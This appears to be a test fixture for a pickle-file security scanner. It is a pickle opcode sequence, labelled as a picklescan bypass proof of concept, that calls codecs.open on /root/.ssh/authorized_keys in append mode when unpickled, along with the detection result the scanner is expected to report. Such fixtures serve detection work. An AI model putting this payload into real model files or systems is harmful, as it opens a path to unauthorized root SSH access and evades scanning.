#! technique 69 codecs.open writes an arbitrary file
#! expect PICKLE-EXEC codecs.open
# picklescan v1.0.3 PoC (HF optimus-fulcria/picklescan-bypass-poc).
PROTO 4
SHORT_BINUNICODE "codecs"
SHORT_BINUNICODE "open"
STACK_GLOBAL
SHORT_BINUNICODE "/root/.ssh/authorized_keys"
SHORT_BINUNICODE "a"
TUPLE2
REDUCE
STOP
